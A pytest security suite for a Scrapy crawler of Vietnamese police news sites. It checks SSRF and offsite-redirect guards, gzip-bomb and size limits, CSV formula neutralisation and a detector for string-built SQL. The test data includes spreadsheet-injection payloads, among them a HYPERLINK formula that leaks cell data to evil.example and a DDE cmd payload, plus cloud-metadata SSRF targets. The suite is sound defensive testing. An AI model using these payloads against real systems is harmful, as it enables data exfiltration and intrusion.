"""Security: scope and SSRF guards on every request and redirect, size/depth/length limits, safe export, no built SQL.

Real crawls (`python -m crawler crawl` in a subprocess) run against tiny HTTP servers on
127.0.0.x; the middleware's decisions for public-looking hosts are unit-tested with a fake
resolver, because the test machines have no public DNS.
"""

from __future__ import annotations

import ast
import asyncio
import csv
import gzip
import json
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from scrapy import Request, Spider
from scrapy.downloadermiddlewares.redirect import MetaRefreshMiddleware, RedirectMiddleware
from scrapy.exceptions import IgnoreRequest
from scrapy.http import HtmlResponse, Response
from scrapy.utils.test import get_crawler

from crawler.core.urls import MAX_URL_LENGTH, looks_like_trap
from crawler.crawl.middlewares import HostGuard, SafetyMiddleware, non_public, system_resolver
from crawler.crawl.settings import (
    CONCURRENT_REQUESTS,
    DEPTH_LIMIT,
    DOWNLOAD_MAXSIZE,
    DOWNLOAD_WARNSIZE,
    URLLENGTH_LIMIT,
)
from crawler.review.export import safe_cell
from spiders.portal import MAX_LISTING_DEPTH
from storage import ArticleRepository, StoryInput, open_database

ROOT = Path(__file__).resolve().parent.parent
FAST = ["-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=False"]
NO_SAFETY = ["-s", "DOWNLOADER_MIDDLEWARES={}"]

# -- tiny portals --------------------------------------------------------------------------------

Reply = tuple[int, dict[str, str], bytes | Callable[[], Iterator[bytes]]]


class TinyServer:
    """An HTTP/1.0 server on one loopback address; `routes` maps a path (with query) to a reply."""

    def __init__(self, host: str, routes: dict[str, Callable[[], Reply]] | None = None,
                 fallback: Callable[[str], Reply | None] | None = None) -> None:
        self.routes = routes or {}
        self.fallback = fallback
        self.hits: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.hits.append(self.path)
                route = server.routes.get(self.path)
                reply = route() if route else (server.fallback(self.path) if server.fallback else None)
                status, headers, body = reply or (404, {"Content-Type": "text/plain"}, b"not found")
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                if isinstance(body, bytes):
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                    return
                self.end_headers()  # no length: the body ends when the connection closes
                try:
                    for chunk in body():
                        self.wfile.write(chunk)
                except OSError:
                    pass  # the crawler hung up, as it should past its size limit

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer((host, 0), Handler)
        self.httpd.daemon_threads = True
        self.base = f"http://{host}:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> TinyServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def html(body: str, head: str = "") -> Reply:
    page = f'<!doctype html><html lang="vi"><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
    return 200, {"Content-Type": "text/html; charset=utf-8"}, page.encode()


def article_page(n: int, title: str | None = None, padding: str = "") -> str:
    title = title or f"Bắt giữ đối tượng trộm cắp tài sản số {n} tại chợ đêm"
    return (
        f'<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>{title}</title>'
        f'<meta property="article:published_time" content="2025-08-01T08:30:00+07:00"></head><body>'
        f"<article><h1>{title}</h1><p>01/08/2025 08:30</p>"
        f"<p>Ngày 31/7, Công an phường Đông Kinh đã bắt giữ đối tượng thứ {n} có hành vi trộm cắp tài sản của "
        "du khách tại khu vực chợ đêm, thu giữ nhiều tang vật liên quan đến vụ việc.</p>"
        f"<p>Qua đấu tranh, đối tượng khai nhận đã thực hiện {n} vụ trộm trong thời gian gần đây. Vụ việc đang "
        "được cơ quan chức năng tiếp tục điều tra, làm rõ theo quy định của pháp luật.</p>"
        "<p>Công an khuyến cáo người dân nâng cao cảnh giác, bảo quản tốt tài sản cá nhân khi tham gia các "
        f"hoạt động tại nơi đông người.</p></article>{padding}</body></html>"
    )


def article(n: int, title: str | None = None) -> Callable[[], Reply]:
    return lambda: (200, {"Content-Type": "text/html; charset=utf-8"}, article_page(n, title).encode())


def teaser(url: str, n: int) -> str:
    return f'<li><a href="{url}">Bắt giữ đối tượng trộm cắp tài sản số {n} tại chợ đêm</a></li>'


def redirect(location: str, status: int = 302) -> Callable[[], Reply]:
    return lambda: (status, {"Location": location, "Content-Type": "text/html"}, b"moved")


def meta_refresh(location: str) -> Callable[[], Reply]:
    return lambda: html("<p>chuyển trang</p>", f'<meta http-equiv="refresh" content="0; url={location}">')


# -- crawling them -------------------------------------------------------------------------------


class Crawl:
    def __init__(self, result: subprocess.CompletedProcess[str]) -> None:
        self.stdout = result.stdout
        self.stderr = result.stderr
        dump = result.stderr.split("Dumping Scrapy stats:", 1)[-1].split("}", 1)[0]
        self.stats: dict[str, Any] = {}
        for key, number, text in re.findall(r"'([^']+)': (?:(\d+)|'([^']*)')", dump):
            self.stats[key] = int(number) if number else text

    def stat(self, key: str) -> int:
        value = self.stats.get(key, 0)
        return value if isinstance(value, int) else 0


def sites_toml(start: str, *, allowed: list[str] | None = None, **extra: Any) -> str:
    lines = ["[[sites]]", 'id = "tiny"', 'name = "Tiny portal"', f"start_urls = [{json.dumps(start)}]"]
    if allowed is not None:
        lines.append(f"allowed_domains = {json.dumps(allowed)}")
    lines += [f"{key} = {json.dumps(value)}" for key, value in extra.items()]
    return "\n".join(lines) + "\n"


def crawl(tmp_path: Path, toml: str, *extra: str, db: str = "c.sqlite") -> Crawl:
    sites = tmp_path / "sites.toml"
    sites.write_text(toml, encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "crawler", "crawl", "--sites", str(sites), "--db", f"sqlite:///{tmp_path / db}",
         "--progress", "0", "--log-level", "INFO", *FAST, *extra],
        cwd=ROOT, capture_output=True, text=True, timeout=240,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return Crawl(result)


def stored_titles(tmp_path: Path, db: str = "c.sqlite") -> set[str]:
    result = subprocess.run(
        [sys.executable, "-m", "crawler", "export", "--db", f"sqlite:///{tmp_path / db}"],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return {json.loads(line)["title"] for line in result.stdout.splitlines()}


# -- 1. redirects never leave the allowed domains -------------------------------------------------


@pytest.mark.parametrize("safety", [True, False], ids=["with-safety", "scrapy-alone"])
def test_redirects_out_of_the_allowed_domains_are_not_followed(tmp_path, safety):
    with TinyServer("127.0.0.23") as outside, TinyServer("127.0.0.21") as site:
        site.routes = {
            "/tin-tuc": lambda: html("<ul>" + "".join([
                teaser("/tin-tuc/bai-viet-hop-le-so-1.html", 1),
                teaser("/tin-tuc/chuyen-huong-ra-ngoai-so-2.html", 2),
                teaser("/tin-tuc/lam-moi-ra-ngoai-so-3.html", 3),
            ]) + "</ul>"),
            "/tin-tuc/bai-viet-hop-le-so-1.html": article(1),
            "/tin-tuc/chuyen-huong-ra-ngoai-so-2.html": redirect(f"{outside.base}/tin-tuc/bai-ngoai-so-2.html"),
            "/tin-tuc/lam-moi-ra-ngoai-so-3.html": meta_refresh(f"{outside.base}/tin-tuc/bai-ngoai-so-3.html"),
        }
        result = crawl(tmp_path, sites_toml(f"{site.base}/tin-tuc"), *([] if safety else NO_SAFETY))
    assert outside.hits == []
    assert "/tin-tuc/bai-viet-hop-le-so-1.html" in site.hits
    if safety:
        assert result.stat("offsite/redirect_refused") == 2, result.stats
    else:
        # Verified, not assumed: for ordinary requests Scrapy's OffsiteMiddleware drops the
        # redirect when it is scheduled. The next test is the case it lets through.
        assert result.stat("offsite/filtered") == 2, result.stats


RSS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Tin</title>
<item><title>Bài 1</title><link>{base}/tin-tuc/bai-viet-tu-rss-so-1.html</link></item>
</channel></rss>"""


@pytest.mark.parametrize("safety", [True, False], ids=["with-safety", "scrapy-alone"])
def test_a_dont_filter_request_redirected_off_site_is_refused(tmp_path, safety):
    """The incremental crawl's conditional feed request has dont_filter, which its redirects inherit."""
    with TinyServer("127.0.0.23") as outside, TinyServer("127.0.0.21") as site:
        feed = RSS.format(base=site.base).encode()
        site.routes = {
            "/tin-tuc": lambda: html(teaser("/tin-tuc/bai-viet-tu-rss-so-1.html", 1),
                                     '<link rel="alternate" type="application/rss+xml" href="/rss.xml">'),
            "/rss.xml": lambda: (200, {"Content-Type": "application/rss+xml", "ETag": '"v1"'}, feed),
            "/tin-tuc/bai-viet-tu-rss-so-1.html": article(1),
        }
        toml = sites_toml(f"{site.base}/tin-tuc", profile="generic")
        first = crawl(tmp_path, toml)
        assert first.stats.get("crawl/mode") == "full" and stored_titles(tmp_path)
        # The portal (or whoever took it over) now sends the feed elsewhere.
        site.routes["/rss.xml"] = redirect(f"{outside.base}/rss.xml", 301)
        second = crawl(tmp_path, toml, *([] if safety else NO_SAFETY))
    assert second.stats.get("crawl/mode") == "incremental"
    if safety:
        assert outside.hits == []
        assert second.stat("offsite/redirect_refused") == 1, second.stats
        assert "is outside the allowed domains" in second.stderr
    else:
        assert outside.hits == ["/rss.xml"], "Scrapy alone now follows it; this test shows why the middleware exists"


# -- 2. no requests into private, loopback or link-local addresses --------------------------------


def test_hosts_on_internal_addresses_are_refused_unless_they_are_the_sites_own(tmp_path):
    with (
        TinyServer("127.0.0.22") as internal,
        TinyServer("127.0.0.1") as local,
        TinyServer("127.0.0.21") as site,
    ):
        local_url = local.base.replace("127.0.0.1", "localhost")
        site.routes = {
            "/tin-tuc": lambda: html("<ul>" + "".join([
                teaser("/tin-tuc/bai-viet-hop-le-so-1.html", 1),
                teaser(f"{internal.base}/tin-tuc/noi-bo-bai-viet-so-2.html", 2),
                teaser(f"{local_url}/tin-tuc/noi-bo-bai-viet-so-3.html", 3),
                teaser("/tin-tuc/chuyen-vao-noi-bo-so-4.html", 4),
            ]) + "</ul>"),
            "/tin-tuc/bai-viet-hop-le-so-1.html": article(1),
            "/tin-tuc/chuyen-vao-noi-bo-so-4.html": redirect(f"{internal.base}/admin"),
        }
        # Every host is in the allowed domains: only the address rule stands in the way.
        toml = sites_toml(f"{site.base}/tin-tuc", allowed=["127.0.0.21", "127.0.0.22", "localhost"])
        result = crawl(tmp_path, toml)
    assert internal.hits == [] and local.hits == []
    assert result.stat("ssrf/refused") == 3, result.stats
    assert "resolves to non-public address" in result.stderr
    # The site itself sits on loopback (the operator's choice) and is crawled as usual.
    assert "Bắt giữ đối tượng trộm cắp tài sản số 1 tại chợ đêm" in stored_titles(tmp_path)


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0",
     "224.0.0.251", "240.0.0.1", "255.255.255.255", "::1", "::", "fe80::1", "fe80::1%eth0", "fc00::1",
     "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "2001:db8::1"],
)
def test_non_public_addresses(address):
    assert non_public(address)


@pytest.mark.parametrize("address", ["14.225.1.10", "8.8.8.8", "2001:4860:4860::8888", "::ffff:14.225.1.10"])
def test_public_addresses(address):
    assert not non_public(address)


class FakeDns:
    """A resolver with a fixed table that counts its look-ups."""

    def __init__(self, table: dict[str, list[str]]) -> None:
        self.table = table
        self.calls: list[str] = []

    def __call__(self, host: str) -> list[str]:
        self.calls.append(host)
        if host not in self.table:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return self.table[host]


DNS = {
    "congan.example.gov.vn": ["14.225.1.10"],
    "anh.congan.example.gov.vn": ["14.225.1.11"],
    "intranet.congan.example.gov.vn": ["10.0.0.5"],
    "both.congan.example.gov.vn": ["14.225.1.12", "192.168.0.9"],  # one bad answer is enough
    "mirror.intranet": ["10.1.2.3"],
    "x.mirror.intranet": ["10.1.2.4"],
}


class Portal(Spider):
    name = "portal"
    allowed_domains = ("congan.example.gov.vn",)
    start_urls = ("https://congan.example.gov.vn/tin-tuc",)


def safety(spider_cls: type[Spider] = Portal, dns: FakeDns | None = None) -> tuple[SafetyMiddleware, Any]:
    crawler = get_crawler(spider_cls)
    middleware = SafetyMiddleware.from_crawler(crawler)
    middleware.resolver = dns or FakeDns(DNS)
    middleware.spider_opened(spider_cls())
    return middleware, crawler


def passes(middleware: SafetyMiddleware, request: Request) -> bool:
    """Both hooks, as a crawl runs them: when the request is scheduled, then before it is downloaded."""
    try:
        middleware.request_scheduled(request, Portal())
        asyncio.run(middleware.process_request(request))
    except IgnoreRequest:
        return False
    return True


def redirected(crawler: Any, source: str, location: str, *, dont_filter: bool = False) -> Request:
    request = Request(source, dont_filter=dont_filter)
    response = Response(source, status=302, headers={"Location": location}, request=request)
    result = RedirectMiddleware.from_crawler(crawler).process_response(request, response)
    assert isinstance(result, Request)
    return result


@pytest.mark.parametrize("dont_filter", [False, True])
@pytest.mark.parametrize(
    ("location", "stat"),
    [
        ("http://169.254.169.254/latest/meta-data/", "offsite/redirect_refused"),
        ("http://127.0.0.1:8080/admin", "offsite/redirect_refused"),
        ("https://evil.example.org/", "offsite/redirect_refused"),
        ("https://congan.example.gov.vn.evil.example.org/", "offsite/redirect_refused"),
        ("https://intranet.congan.example.gov.vn/", "ssrf/refused"),
        ("https://both.congan.example.gov.vn/", "ssrf/refused"),
        ("https://congan.example.gov.vn/" + "a" * 2100, "urllength/refused"),
    ],
)
def test_redirect_targets_are_checked(location, stat, dont_filter):
    middleware, crawler = safety()
    request = redirected(crawler, "https://congan.example.gov.vn/tin-tuc/a-b-c-1.html", location,
                         dont_filter=dont_filter)
    assert not passes(middleware, request)
    assert crawler.stats.get_value(stat) == 1
    assert sum(v for k, v in crawler.stats.get_stats().items() if k.endswith("refused")) == 1


def test_redirects_within_the_site_and_to_public_subdomains_pass():
    middleware, crawler = safety()
    for location in ("/tin-tuc/moi-chuyen-den-2.html", "https://anh.congan.example.gov.vn/a.jpg"):
        assert passes(middleware, redirected(crawler, "https://congan.example.gov.vn/x-y-z-1.html", location))
    assert not any(k.endswith("refused") for k in crawler.stats.get_stats())


def test_meta_refresh_targets_are_checked():
    middleware, crawler = safety()
    refresh = MetaRefreshMiddleware.from_crawler(crawler)
    for target, stat in (("http://10.0.0.1/", "offsite/redirect_refused"),
                         ("https://intranet.congan.example.gov.vn/", "ssrf/refused")):
        request = Request("https://congan.example.gov.vn/tin-tuc")
        body = f'<html><head><meta http-equiv="refresh" content="0;url={target}"></head></html>'.encode()
        result = refresh.process_response(request, HtmlResponse(request.url, body=body, request=request))
        assert isinstance(result, Request) and result.url == target
        assert not passes(middleware, result)
        assert crawler.stats.get_value(stat) == 1


def test_a_site_on_an_internal_address_allows_exactly_its_own_hosts():
    class Mirror(Spider):
        name = "mirror"
        allowed_domains = ("mirror.intranet",)
        start_urls = ("http://mirror.intranet/tin-tuc",)

    middleware, crawler = safety(Mirror)
    assert passes(middleware, Request("http://mirror.intranet/tin-tuc/bai-viet-1.html"))
    assert not passes(middleware, Request("http://x.mirror.intranet/tin-tuc"))
    assert crawler.stats.get_value("ssrf/refused") == 1

    class Loopback(Spider):
        name = "loopback"
        allowed_domains = ("127.0.0.11", "127.0.0.12")
        start_urls = ("http://127.0.0.11:8080/news/",)

    middleware, crawler = safety(Loopback)
    assert passes(middleware, Request("http://127.0.0.11:9000/robots.txt"))
    assert not passes(middleware, Request("http://127.0.0.12/news/"))


def test_look_ups_are_cached_and_failures_left_to_the_download():
    dns = FakeDns(DNS)
    middleware, _ = safety(dns=dns)
    for _ in range(3):
        assert passes(middleware, Request("https://anh.congan.example.gov.vn/a.jpg"))
    assert dns.calls.count("anh.congan.example.gov.vn") == 1
    # The start host never needs a look-up; an unknown name passes and fails at download time.
    assert passes(middleware, Request("https://congan.example.gov.vn/"))
    assert passes(middleware, Request("https://khong-ton-tai.congan.example.gov.vn/"))
    assert "congan.example.gov.vn" not in dns.calls


def test_the_system_resolver_catches_numeric_and_local_names():
    guard = HostGuard((), system_resolver)
    # 2130706433 is 127.0.0.1 written as one number; getaddrinfo reads it so, offline too.
    assert guard.refused_address("2130706433") == "127.0.0.1"
    assert guard.refused_address("localhost") is not None
    assert guard.refused_address("[::1]") == "::1"
    assert guard.refused_address("does-not-resolve.invalid") is None


def test_the_middleware_is_enabled_before_scrapys_offsite_and_robots_middlewares():
    from crawler.crawl.runner import crawl_settings

    order = crawl_settings().getwithbase("DOWNLOADER_MIDDLEWARES")
    assert order["crawler.crawl.middlewares.SafetyMiddleware"] < order[
        "scrapy.downloadermiddlewares.offsite.OffsiteMiddleware"] < order[
        "scrapy.downloadermiddlewares.robotstxt.RobotsTxtMiddleware"]


# -- 3. size, depth, URL length and page limits --------------------------------------------------


def test_the_limits_are_configured():
    assert DOWNLOAD_MAXSIZE == 8 * 1024 * 1024 and DOWNLOAD_WARNSIZE == 2 * 1024 * 1024
    assert MAX_LISTING_DEPTH + 2 <= DEPTH_LIMIT <= 100
    assert URLLENGTH_LIMIT == MAX_URL_LENGTH


def test_oversized_pages_and_gzip_bombs_are_dropped(tmp_path):
    big = article_page(1, padding="<!--" + "x" * (9 * 1024 * 1024) + "-->").encode()
    bomb = gzip.compress(article_page(3, padding="<!--" + " " * (64 * 1024 * 1024) + "-->").encode(), 9)
    assert len(bomb) < 200_000  # tiny on the wire ...
    warn = article_page(4, padding="<!--" + "w" * (3 * 1024 * 1024) + "-->").encode()

    def streamed() -> Iterator[bytes]:
        yield article_page(2).encode()
        for _ in range(10 * 1024):
            yield b"<!--" + b"s" * 1024 + b"-->"

    paths = [f"/tin-tuc/bai-lon-so-{n}.html" for n in range(1, 6)]
    with TinyServer("127.0.0.21") as site:
        type_ = {"Content-Type": "text/html; charset=utf-8"}
        site.routes = {
            "/tin-tuc": lambda: html("<ul>" + "".join(teaser(p, n) for n, p in enumerate(paths, 1)) + "</ul>"),
            paths[0]: lambda: (200, type_, big),
            paths[1]: lambda: (200, type_, streamed),  # no Content-Length: cut while reading
            paths[2]: lambda: (200, {**type_, "Content-Encoding": "gzip"}, bomb),  # ... 64 MB unpacked
            paths[3]: lambda: (200, type_, warn),
            paths[4]: article(5),
        }
        result = crawl(tmp_path, sites_toml(f"{site.base}/tin-tuc"))
    assert all(p in site.hits for p in paths)
    titles = stored_titles(tmp_path)
    assert titles == {f"Bắt giữ đối tượng trộm cắp tài sản số {n} tại chợ đêm" for n in (4, 5)}, titles
    assert "Expected to receive" in result.stderr and "larger than download max size" in result.stderr
    assert "Received" in result.stderr
    assert "during decompression" in result.stderr
    assert "larger than download warn size" in result.stderr


def endless_listings(base: str) -> Callable[[str], Reply | None]:
    """Page n links one new article and page n+1, forever; sitemap n nests sitemap n+1, forever."""
    return lambda path: endless_page(base, path)


def endless_page(base: str, path: str) -> Reply | None:
    if path == "/tin-tuc" or path.startswith("/tin-tuc?page="):
        n = int(path.partition("=")[2] or 1)
        return html(f'<ul>{teaser(f"/tin-tuc/bai-viet-trang-so-{n}.html", n)}</ul>'
                    f'<a rel="next" href="/tin-tuc?page={n + 1}">Sau</a>')
    if m := re.fullmatch(r"/tin-tuc/bai-viet-trang-so-(\d+)\.html", path):
        return 200, {"Content-Type": "text/html; charset=utf-8"}, article_page(int(m.group(1))).encode()
    if path == "/sitemap.xml" or re.fullmatch(r"/sitemap-\d+\.xml", path):
        n = int(re.sub(r"\D", "", path) or 0) + 1
        xml = f'<?xml version="1.0"?><sitemapindex><sitemap><loc>{base}/sitemap-{n}.xml</loc></sitemap></sitemapindex>'
        return 200, {"Content-Type": "application/xml"}, xml.encode()
    return None


def test_listing_chains_stop_at_the_spiders_depth_and_everything_else_at_depth_limit(tmp_path):
    with TinyServer("127.0.0.21") as site:
        site.fallback = endless_listings(site.base)
        result = crawl(tmp_path, sites_toml(f"{site.base}/tin-tuc", profile="generic"),
                       "-s", "CONCURRENT_REQUESTS_PER_DOMAIN=8")
    listings = [h for h in site.hits if h.startswith("/tin-tuc?") or h == "/tin-tuc"]
    assert len(listings) == MAX_LISTING_DEPTH + 1
    assert result.stat("listings/depth_limit") == 1
    # Nested sitemap indexes are not bounded by the spider: Scrapy's DEPTH_LIMIT stops them.
    sitemaps = [h for h in site.hits if h.startswith("/sitemap")]
    assert DEPTH_LIMIT - 2 <= len(sitemaps) <= DEPTH_LIMIT
    assert result.stat("request_depth_max") == DEPTH_LIMIT
    assert result.stats.get("finish_reason") == "finished"


def test_max_pages_closes_the_crawl(tmp_path):
    with TinyServer("127.0.0.21") as site:
        site.fallback = endless_listings(site.base)
        result = crawl(tmp_path, sites_toml(f"{site.base}/tin-tuc", profile="generic", max_pages=5, concurrency=1))
    assert result.stats.get("finish_reason") == "closespider_pagecount"
    # The count closes the crawl; requests the downloader already holds (at most CONCURRENT_REQUESTS,
    # here the feed probes queued with the first listing) still complete. Unbounded, this site is endless.
    assert 5 <= result.stat("response_received_count") == len(site.hits) <= 5 + CONCURRENT_REQUESTS


def test_overlong_urls_are_refused_as_links_and_as_redirect_targets(tmp_path):
    long_query = "?q=" + "a" * 2500
    with TinyServer("127.0.0.21") as site:
        site.routes = {
            "/tin-tuc": lambda: html("<ul>" + teaser(f"/tin-tuc/bai-viet-dai-so-1.html{long_query}", 1)
                                     + teaser("/tin-tuc/chuyen-dai-bai-viet-so-2.html", 2) + "</ul>"),
            "/tin-tuc/chuyen-dai-bai-viet-so-2.html": redirect(f"/tin-tuc/bai-viet-dai-so-2.html{long_query}"),
        }
        result = crawl(tmp_path, sites_toml(f"{site.base}/tin-tuc"))
    assert all(len(h) < MAX_URL_LENGTH for h in site.hits)
    assert result.stat("links/refused/URL too long") == 1
    assert result.stat("urllength/refused") == 1
    assert looks_like_trap("http://a.vn/" + "a" * MAX_URL_LENGTH) == "URL too long"
    assert looks_like_trap("http://a.vn/x-y-z-1.html") is None


# -- 4. export: no spreadsheet formulas, JSON lines that stay lines -------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.fixture
def hostile_db(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'hostile.sqlite'}"
    db = open_database(url)
    try:
        ArticleRepository(db).save_batch([
            StoryInput(
                site_id="tiny", url=f"http://127.0.0.21/tin-tuc/bai-so-{i}.html", title=text,
                body=[text, "Đoạn hai có \"ngoặc kép\", dấu \\ gạch chéo,\ndòng mới,\u2028LS,\u2029PS và \x85NEL."],
                content_hash=f"hash-{i}", author=text, summary=text, category=text,
                published_at=datetime(2025, 8, 1, 8, 30, tzinfo=UTC),
            )
            for i, text in enumerate(HOSTILE)
        ])
    finally:
        db.dispose()
    return url


def export(db_url: str, *extra: str) -> str:
    result = subprocess.run([sys.executable, "-m", "crawler", "export", "--db", db_url, *extra],
                            cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_csv_export_neutralises_formulas(hostile_db, tmp_path):
    out = tmp_path / "out.csv"
    export(hostile_db, "--format", "csv", "-o", str(out))
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    assert sorted(r["title"] for r in rows) == sorted("'" + t for t in HOSTILE)
    for row in rows:
        for name, cell in row.items():
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@"), (name, cell)
            assert cell[:1] not in ("\t", "\r", "\n"), (name, cell)
        assert row["body"].startswith("'") and row["author"].startswith("'") and row["summary"].startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1", "'=1"), ("Hà Nội", "Hà Nội"), ("a=b", "a=b"), (None, ""), (12, "12"), (-3, "'-3"),
     (["=x"], '["=x"]'), (" @x", "' @x"), ("\n=x", "'\n=x")],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_jsonl_export_round_trips_and_keeps_one_record_per_line(hostile_db):
    out = export(hostile_db)
    lines = out.splitlines()  # splits at U+2028, U+2029 and NEL too: they must be escaped
    assert len(lines) == len(HOSTILE)
    records = [json.loads(line) for line in lines]
    assert sorted(r["title"] for r in records) == sorted(HOSTILE)
    for record in records:
        assert record["body"].split("\n\n")[1] == (
            "Đoạn hai có \"ngoặc kép\", dấu \\ gạch chéo,\ndòng mới,\u2028LS,\u2029PS và \x85NEL.")


# -- 5. no SQL built from strings ---------------------------------------------------------------

SQL_CALLS = {"execute", "executemany", "executescript", "exec_driver_sql", "text"}


def built_string(node: ast.expr, assigned: dict[str, ast.expr]) -> bool:
    """An f-string, a % or + with a string, or a .format() call; names are followed to their assignment."""
    if isinstance(node, ast.Name) and node.id in assigned:
        return built_string(assigned[node.id], {})
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(v, ast.FormattedValue) for v in node.values)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
        return any(isinstance(side, ast.Constant | ast.JoinedStr) and not isinstance(getattr(side, "value", ""), int)
                   for side in (node.left, node.right)) or built_string(node.left, assigned)
    return isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("format", "join")


def sql_built_from_strings(source: str) -> list[tuple[int, str]]:
    tree = ast.parse(source)
    # `text` is SQL only when it is SQLAlchemy's; the replica portals have a `text()` of their own.
    sql_text = any(isinstance(n, ast.ImportFrom) and n.module and n.module.startswith("sqlalchemy")
                   and any(a.name == "text" for a in n.names) for n in ast.walk(tree))
    found = []
    for scope in ast.walk(tree):
        if not isinstance(scope, ast.Module | ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        assigned = {t.id: n.value for n in ast.walk(scope) if isinstance(n, ast.Assign)
                    for t in n.targets if isinstance(t, ast.Name)}
        for node in ast.walk(scope):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
            if name not in SQL_CALLS or (name == "text" and not (sql_text or isinstance(func, ast.Attribute))):
                continue
            if built_string(node.args[0], assigned):
                found.append((node.lineno, ast.get_source_segment(source, node.args[0]) or ""))
    return sorted(set(found))


def test_the_sql_check_finds_built_sql():
    def lines(source: str) -> list[int]:
        return [line for line, _ in sql_built_from_strings(source)]

    assert lines('def f(c, t):\n    c.execute(f"SELECT * FROM {t}")\n') == [2]
    assert lines('def f(c, t):\n    q = "SELECT * FROM %s" % t\n    c.execute(q)\n') == [3]
    assert lines('from sqlalchemy import text\nx = text("DELETE FROM a WHERE id={}".format(1))\n') == [2]
    assert lines("def f(c, t):\n    c.exec_driver_sql('SELECT ' + t)\n") == [2]
    assert lines('def f(c, k):\n    c.execute(text("SELECT :k"), {"k": k})\n') == []
    assert lines('def text(x):\n    return x\ny = text(f"<p>{1}</p>")\n') == []


# Reviewed exceptions, statement by statement: DDL cannot bind identifiers. A new or changed
# statement fails the test until someone reads it.
REVIEWED = {
    ("storage/db.py", 'f"ALTER TABLE {table_name} ADD COLUMN {name} {kind}"'):
        "table and column names from the code's ADDED_COLUMNS and ORM metadata, the type compiled by the dialect",
    ("storage/search.py", "sql.format(join=join, match=_PG_MATCH[tier])"):
        "module constants only (a JOIN and a match condition per tier); the query words are bound as :q",
    ("storage/search.py", "_SQLITE_TIERS[tier].format(mask=_ID_MASK, join=join)"):
        "module constants only (an integer mask, a JOIN); the query words are bound as :q",
}


def test_no_sql_is_built_from_strings_in_the_project():
    files = [p for d in ("crawler", "storage", "spiders") for p in (ROOT / d).rglob("*.py")]
    files.append(ROOT / "scheduler.py")
    offenders = {}
    for path in files:
        name = str(path.relative_to(ROOT))
        found = [(line, sql) for line, sql in sql_built_from_strings(path.read_text(encoding="utf-8"))
                 if (name, sql) not in REVIEWED]
        if found:
            offenders[name] = found
    assert offenders == {}, f"SQL built by string formatting (use bound parameters): {offenders}"
